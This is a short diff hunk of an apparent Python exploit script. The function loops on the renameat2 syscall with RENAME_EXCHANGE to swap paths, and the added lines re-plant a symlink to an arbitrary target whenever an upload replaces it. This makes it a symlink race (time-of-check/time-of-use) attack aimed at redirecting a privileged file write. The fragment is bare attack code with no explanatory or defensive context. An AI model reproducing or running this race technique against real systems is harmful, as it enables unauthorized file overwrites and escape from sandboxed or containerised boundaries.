@@ -102,6 +102,10 @@ def attempt(path, target):
     while True:
         for _ in range(1000):
             syscall(316, -100, a, -100, b, 2)
+        if not (os.path.islink(path) or os.path.islink(file)):
+            # An upload has taken the link's place.
+            os.symlink(target, path + ".again")
+            os.replace(path + ".again", path)
         if not os.path.lexists(file):
             with open(file, "w") as out:
                 out.write("inside")
